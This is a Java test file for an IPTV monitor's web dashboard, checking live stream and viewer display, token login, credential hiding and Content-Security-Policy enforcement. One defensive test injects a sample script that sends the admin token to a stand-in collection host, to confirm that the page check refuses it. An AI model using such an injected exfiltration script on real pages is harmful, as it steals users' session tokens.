package dev.iptv.monitor.dashboard;

import dev.iptv.contract.AuthContract;
import dev.iptv.contract.ChannelContract;
import dev.iptv.contract.MonitorContract;
import dev.iptv.contract.StreamContract;
import dev.iptv.monitor.Support;
import dev.iptv.testing.TestEnv;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.ext.web.client.WebClient;
import io.vertx.junit5.VertxExtension;
import io.vertx.redis.client.RedisAPI;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static dev.iptv.testing.Await.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The dashboard in a real headless Chromium, fed live by the monitor over server-sent events. */
@ExtendWith(VertxExtension.class)
class DashboardTest {

  private RedisAPI redis;

  @BeforeEach
  void clean(Vertx vertx) {
    redis = Support.redis(vertx);
    Support.flushTestDb(redis);
  }

  private void stream(String id, String name, long now, int viewers, String mode) {
    await(redis.mset(List.of(StreamContract.pidKey(id), "31" + id, StreamContract.startedKey(id), (now - 4000) + ".250",
      StreamContract.nodeKey(id), Support.NODE, StreamContract.modeKey(id), mode,
      MonitorContract.bytesKey(id), "7340032000",
      ChannelContract.channelKey(id), new JsonObject().put("channel_id", id).put("name", name).encode(),
      StreamContract.sourceKey(id), "http://user:s3cret@upstream.example.com:8080/live/u/p/" + id + ".ts?token=abc",
      StreamContract.restartsKey(id), "2")));
    for (int i = 0; i < viewers; i++) {
      await(redis.zadd(List.of(StreamContract.viewersKey(id), Long.toString(now - i), "session-" + i)));
    }
  }

  @Test
  @DisplayName("the dashboard logs in with the token from its URL and shows the streams, viewers and events live")
  void live(Vertx vertx) throws Exception {
    long now = System.currentTimeMillis() / 1000;
    stream("48681", "MBC Pro aflam", now, 3, "copy");
    stream("87827", "beIN SPORT <b>Very</b> Low 1", now, 1, "transcode");
    await(redis.set(List.of(StreamContract.slateKey("87827"), new JsonObject().put("since", now).put("reason", "dead").encode())));
    int port = TestEnv.freePort();
    Support.deploy(vertx, Support.config(port));
    String base = "http://127.0.0.1:" + port;

    HttpResponse<Buffer> page = await(WebClient.create(vertx).get(port, "127.0.0.1", "/dashboard").send());
    assertEquals(200, page.statusCode());
    String csp = page.getHeader("Content-Security-Policy");
    assertTrue(csp.contains("connect-src 'self'"), csp);
    assertEquals(List.of(), notThePagesOwn(page.bodyAsString(), csp), "nothing loaded from elsewhere, no script but the page's own");

    try (Chromium chrome = Chromium.start(1400, 1000)) {
      chrome.navigate(base + "/dashboard#token=" + TestEnv.ADMIN_TOKEN);
      chrome.await(Duration.ofSeconds(20),
        "document.querySelector('#streams tr[data-channel=\"48681\"] .viewers')?.textContent === '3'");
      assertEquals("live", chrome.eval("document.getElementById('conn').textContent"));
      assertEquals("", chrome.eval("location.hash"), "the token does not stay in the address bar");
      assertEquals("MBC Pro aflam", chrome.eval("document.querySelector('#streams tr[data-channel=\"48681\"] .name').textContent"));
      assertEquals("beIN SPORT <b>Very</b> Low 1",
        chrome.eval("document.querySelector('#streams tr[data-channel=\"87827\"] .name').textContent"), "shown as text, never as markup");
      assertEquals("4", chrome.eval("document.getElementById('c-viewers').textContent"));
      assertEquals("2", chrome.eval("document.getElementById('c-streams').textContent"));
      assertEquals(Boolean.TRUE, chrome.eval("!!document.querySelector('#nodes tr[data-node=\"" + Support.NODE + "\"]')"));
      assertEquals("http://upstream.example.com:8080/…/48681.ts",
        chrome.eval("document.querySelector('#streams tr[data-channel=\"48681\"] .source').textContent"),
        "the source it plays, without its credentials");
      assertEquals("2", chrome.eval("document.querySelector('#streams tr[data-channel=\"48681\"] .restarts').textContent"));
      assertEquals("slate", chrome.eval("document.querySelector('#streams tr[data-channel=\"87827\"] .tag.slate')?.textContent"),
        "a stream showing the slate says so");
      assertEquals(Boolean.FALSE, chrome.eval("!!document.querySelector('#streams tr[data-channel=\"48681\"] .tag.slate')"));
      assertEquals("4", String.valueOf(chrome.eval("document.querySelectorAll('#streams tr[data-channel=\"48681\"] button[data-action]').length")),
        "log, switch, restart and stop");
      // The stream API is stream-service's, not deployed here: the page reports the answer it got.
      chrome.eval("document.querySelector('#streams tr[data-channel=\"48681\"] button[data-action=\"log\"]').click(); true");
      chrome.await(Duration.ofSeconds(10), "document.getElementById('log-text').textContent.startsWith('cannot read the log')");
      assertEquals("48681", chrome.eval("document.getElementById('log-channel').textContent"));
      chrome.eval("document.querySelector('#streams tr[data-channel=\"48681\"] button[data-action=\"switch\"]').click(); true");
      chrome.await(Duration.ofSeconds(10), "document.getElementById('action-status').className === 'bad'");
      assertTrue(((String) chrome.eval("document.getElementById('action-status').textContent")).startsWith("switch 48681: "));

      // live: a new viewer, a stream event and a limit hit reach the open page without a reload
      await(redis.zadd(List.of(StreamContract.viewersKey("48681"), Long.toString(now), "session-new")));
      await(redis.incrby(MonitorContract.bytesKey("48681"), "2500000"));
      vertx.eventBus().publish(StreamContract.EVENTS, new JsonObject().put("event", "restarted")
        .put("channel_id", "87827").put("node", Support.NODE).put("mode", "transcode").put("reason", "ffmpeg exited")
        .put("ts", now));
      vertx.eventBus().publish(AuthContract.LIMIT_EVENTS, new JsonObject().put("event", "limit_hit")
        .put("username", "john123").put("channel_id", "48681").put("ts", now));
      vertx.eventBus().publish(StreamContract.EVENTS, new JsonObject().put("event", "disk_full")
        .put("channel_id", "48681").put("node", Support.NODE).put("path", "/var/lib/iptv/hls/stream_48681_9.ts")
        .put("reason", "No space left on device").put("ts", now));
      chrome.await(Duration.ofSeconds(15),
        "document.querySelector('#streams tr[data-channel=\"48681\"] .viewers')?.textContent === '4'");
      chrome.await(Duration.ofSeconds(5), "!!document.querySelector('#events li[data-event=\"limit_hit\"]')");
      String events = (String) chrome.eval("document.getElementById('events').textContent");
      assertTrue(events.contains("john123 reached max connections on channel 48681"), events);
      assertTrue(events.contains("channel 87827 restarted"), events);
      chrome.await(Duration.ofSeconds(5), "!!document.querySelector('#events li[data-event=\"disk_full\"]')");
      events = (String) chrome.eval("document.getElementById('events').textContent");
      assertTrue(events.contains("disk full on " + Support.NODE + " (channel 48681): /var/lib/iptv/hls/stream_48681_9.ts"), events);
      chrome.await(Duration.ofSeconds(15), "document.querySelectorAll('#chart polyline').length === 2");
      chrome.screenshot(Path.of("target", "dashboard.png"), 1400, 1000);
    }
  }

  @Test
  @DisplayName("the dashboard asks for the token, refuses a wrong one and connects with the right one")
  void login(Vertx vertx) throws Exception {
    int port = TestEnv.freePort();
    Support.deploy(vertx, Support.config(port));
    try (Chromium chrome = Chromium.start(1200, 800)) {
      chrome.navigate("http://127.0.0.1:" + port + "/dashboard/");
      chrome.await(Duration.ofSeconds(10), "document.getElementById('login').hidden === false");
      chrome.eval("document.getElementById('token').value = 'not-the-token'; "
        + "document.getElementById('login-form').requestSubmit(); true");
      chrome.await(Duration.ofSeconds(10), "document.getElementById('login-error').textContent.includes('refused')");
      chrome.eval("document.getElementById('token').value = '" + TestEnv.ADMIN_TOKEN + "'; "
        + "document.getElementById('login-form').requestSubmit(); true");
      chrome.await(Duration.ofSeconds(10), "document.getElementById('conn').textContent === 'live'");
      assertEquals(TestEnv.ADMIN_TOKEN, chrome.eval("sessionStorage.getItem('iptv.admin.token')"));
      assertEquals(Boolean.TRUE, chrome.eval("document.getElementById('login').hidden"));
    }
  }

  @Test
  @DisplayName("the page check refuses every script that is not the page's own: external (any form), same-origin, or inline without its hash in the policy")
  void pageCheckRefusesForeignScripts() throws Exception {
    DashboardPage own = DashboardPage.load();
    String html = own.html().toString();
    String csp = own.contentSecurityPolicy();
    assertEquals(List.of(), notThePagesOwn(html, csp), "the page as it is");
    for (String extra : List.of(
      "<script src=\"https://cdn.example.com/chart.js\"></script>",
      "<script src='https://cdn.example.com/chart.js'></script>",
      "<SCRIPT SRC=https://cdn.example.com/chart.js></SCRIPT>",
      "<script defer src=\"//cdn.example.com/chart.js\"></script>",
      "<script src=\"/dashboard/extra.js\"></script>",
      "<script>fetch('https://collect.example.com/?t=' + sessionStorage.getItem('iptv.admin.token'))</script>",
      "<link rel=\"stylesheet\" href=\"https://cdn.example.com/x.css\">",
      "<img src=\"https://track.example.com/p.gif\">")) {
      String tampered = html.replace("</head>", extra + "\n</head>");
      assertTrue(tampered.contains(extra), "the page has a </head> to add to");
      assertFalse(notThePagesOwn(tampered, csp).isEmpty(), "refused: " + extra);
    }
    for (String loose : List.of("'unsafe-inline'", "https:", "cdn.example.com", "*")) {
      String policy = csp.replace("script-src ", "script-src " + loose + " ");
      assertFalse(notThePagesOwn(html, policy).isEmpty(), "a policy allowing " + loose + " refused");
    }
  }

  /**
   * What in the page is not its own, as a list of findings (empty: all its own). The page is one
   * self-contained file: the allowed set of script (and style, image, frame...) URLs is empty, so
   * every {@code src}/{@code href} and every {@code url()} or {@code @import} is a finding; an
   * inline script or style must have its SHA-256 in the policy's {@code script-src}/{@code style-src},
   * which must list nothing but such hashes.
   */
  static List<String> notThePagesOwn(String html, String csp) throws Exception {
    List<String> found = new ArrayList<>();
    Map<String, Set<String>> policy = new HashMap<>();
    for (String directive : csp.split(";")) {
      List<String> words = List.of(directive.trim().split("\\s+"));
      policy.put(words.get(0).toLowerCase(Locale.ROOT), new HashSet<>(words.subList(1, words.size())));
    }
    for (String tag : List.of("script", "style")) {
      Set<String> allowed = policy.getOrDefault(tag + "-src", Set.of());
      allowed.stream().filter(w -> !w.startsWith("'sha256-")).forEach(w -> found.add(tag + "-src allows " + w));
      Matcher m = Pattern.compile("<" + tag + "\\b([^>]*)>(.*?)</" + tag + "\\s*>", Pattern.CASE_INSENSITIVE | Pattern.DOTALL)
        .matcher(html);
      int inline = 0;
      while (m.find()) {
        inline++;
        Matcher src = Pattern.compile("(?i)\\ssrc\\s*=\\s*(\"[^\"]*\"|'[^']*'|[^\\s>]+)").matcher(m.group(1));
        if (src.find()) {
          found.add("a " + tag + " loaded from " + src.group(1));
          continue;
        }
        String hash = "'sha256-" + Base64.getEncoder().encodeToString(
          MessageDigest.getInstance("SHA-256").digest(m.group(2).getBytes(StandardCharsets.UTF_8))) + "'";
        if (!allowed.contains(hash)) {
          found.add("an inline " + tag + " the policy does not allow: " + brief(m.group()));
        }
      }
      Matcher open = Pattern.compile("<" + tag + "\\b", Pattern.CASE_INSENSITIVE).matcher(html);
      int opened = 0;
      while (open.find()) {
        opened++;
      }
      if (opened != inline) {
        found.add(opened + " <" + tag + "> tags, " + inline + " of them closed");
      }
    }
    // Outside the inline code: any attribute that loads something, any CSS that does.
    String withoutScripts = html.replaceAll("(?is)<script\\b[^>]*>.*?</script\\s*>", "<script>");
    String markup = withoutScripts.replaceAll("(?is)<style\\b[^>]*>.*?</style\\s*>", "<style>");
    Matcher loads = Pattern.compile("<[a-z][^>]*?\\s(src|href|srcset|data|action|formaction|poster)\\s*=\\s*(\"[^\"]*\"|'[^']*'|[^\\s>]+)",
      Pattern.CASE_INSENSITIVE).matcher(markup);
    while (loads.find()) {
      found.add("loads " + loads.group(1) + "=" + loads.group(2));
    }
    Matcher css = Pattern.compile("(?i)@import|url\\(\\s*['\"]?(?!data:|#)").matcher(withoutScripts);
    while (css.find()) {
      found.add("CSS that loads something: " + brief(withoutScripts.substring(css.start())));
    }
    return found;
  }

  private static String brief(String text) {
    return text.length() > 80 ? text.substring(0, 80) + "..." : text;
  }

  @Test
  @DisplayName("the event stream needs the admin bearer")
  void streamNeedsBearer(Vertx vertx) {
    int port = TestEnv.freePort();
    Support.deploy(vertx, Support.config(port));
    assertEquals(401, await(WebClient.create(vertx).get(port, "127.0.0.1", "/api/events/stream").send()).statusCode());
  }
}
